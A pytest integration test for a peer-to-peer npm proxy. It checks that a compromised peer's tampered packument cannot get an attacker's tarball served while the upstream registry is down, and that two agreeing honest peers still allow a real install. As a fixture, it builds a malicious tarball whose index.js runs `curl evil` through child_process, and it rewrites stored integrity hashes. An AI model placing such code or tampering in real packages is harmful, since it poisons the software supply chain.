"""Issue 12 item 4 (npm): with the upstream down, a peer's packument must not make the proxy serve the
attacker's tarball (it would verify: the peer chose the integrity).

The attacker is a real daemon whose stored packument was rewritten (as a compromised machine would)
to name a tarball it holds, so the fetch of that integrity from it succeeds."""

from __future__ import annotations

import hashlib
import json
from urllib.parse import quote

import pytest

from beiran_testkit.verdaccio import make_tarball, npm, npm_daemon_config, sri512, write_project

pytestmark = pytest.mark.cluster

PKG, VERSION = "beiran-test-p25", "1.0.0"
FULL = {"Accept": "application/json"}
ABBR = {"Accept": "application/vnd.npm.install-v1+json"}


def _tamper_packuments(node, evil: bytes) -> None:
    """Rewrite the attacker's stored packuments (both forms) so 1.0.0 names the evil tarball."""
    for kind in ("full", "abbr"):
        path = node.data_dir / "npm" / "packuments" / kind / (quote(PKG, safe="") + ".json")
        doc = json.loads(path.read_bytes())
        dist = doc["versions"][VERSION]["dist"]
        dist["integrity"], dist["shasum"] = sri512(evil), hashlib.sha1(evil).hexdigest()
        path.write_text(json.dumps(doc))


def _offline_metric(node, outcome: str) -> float:
    return node.metrics().get(f"beiran_offline_answers_total{{outcome={outcome}}}{{plugin=npm}}", 0)


def test_upstream_down_a_tampered_peer_packument_is_never_served_two_agreeing_peers_are(
        cluster, upstream, registry, work):
    real = registry.pub(PKG, VERSION)
    evil = make_tarball(PKG, VERSION, files={"index.js": b"require('child_process').exec('curl evil')\n"})
    config = npm_daemon_config(upstream.url)
    n1, n2, attacker = cluster.start(3, config=config)
    for node in (n1, n2, attacker):  # each stores the packument it got from the upstream itself
        status, _, body = node.tcp("GET", f"/npm/{PKG}", headers=FULL)
        assert status == 200 and json.loads(body)["versions"][VERSION]["dist"]["integrity"] == real.integrity
    assert attacker.tcp("GET", f"/npm/{PKG}", headers=ABBR)[0] == 200
    attacker.api("PUT", "/blobs/upload?algorithm=sha512", raw=evil)
    _tamper_packuments(attacker, evil)
    for kind in ("full", "abbr"):
        status, _, body = attacker.tcp("GET", f"/npm/-/beiran/peer/packument/{kind}/{PKG}")
        assert status == 200 and sri512(evil).encode() in body
    tarball = f"/npm/{PKG}/-/{real.file}"
    assert n1.tcp("GET", tarball)[2] == real.tarball  # the real tarball is in the cluster too
    upstream.stop()  # connection refused from now on

    # two nodes that never saw the package: one whose only peer is the attacker, one that knows every node
    lonely = cluster.add(config=config, peers=[attacker.url], start=False)
    fresh = cluster.add(config=config, peers=[n1.url, n2.url, attacker.url], start=False)
    for node in (lonely, fresh):
        node.start(wait=False)
    for node in (lonely, fresh):
        node.wait_ready()
    cluster.wait_connected([lonely, attacker])
    assert lonely.online_peers() == {attacker.uuid}
    # 1. with only the attacker as a peer: no packument, no tarball
    status, _, body = lonely.tcp("GET", f"/npm/{PKG}", headers=FULL)
    assert sri512(evil).encode() not in body, "one peer's packument was served during an outage"
    assert status == 502, body
    status, _, body = lonely.tcp("GET", tarball)
    assert body != evil, "the attacker's tarball was served"
    assert status == 502, body
    assert _offline_metric(lonely, "refused") >= 2 and _offline_metric(lonely, "agreed") == 0
    assert "offline answer (npm): not answering packument beiran-test-p25" in lonely.log()

    # 2. two honest peers agree, the attacker disagrees: npm installs the real package, marked offline
    cluster.wait_connected([fresh, n1, n2, attacker])
    status, headers, body = fresh.tcp("GET", f"/npm/{PKG}", headers=FULL)
    assert status == 200 and json.loads(body)["versions"][VERSION]["dist"]["integrity"] == real.integrity
    assert headers.get("X-Beiran-Offline") == "agreed; peers=" + ",".join(sorted(n.uuid[:8] for n in (n1, n2)))
    project = write_project(work / "p", {PKG: "^1.0.0"})
    npm(["install"], project, fresh.url + "/npm/", work / "cache")
    lock = json.loads((project / "package-lock.json").read_text())["packages"][f"node_modules/{PKG}"]
    assert lock["integrity"] == real.integrity
    status, _, body = fresh.tcp("GET", tarball)
    assert status == 200 and body == real.tarball
    assert _offline_metric(fresh, "agreed") >= 1 and _offline_metric(fresh, "refused") == 0
    line = next(x for x in fresh.log().splitlines() if "offline answer (npm): answering packument" in x)
    assert "WARNING" in line and PKG in line and real.integrity[:30] in line
    assert n1.uuid[:8] in line and n2.uuid[:8] in line and attacker.uuid[:8] not in line
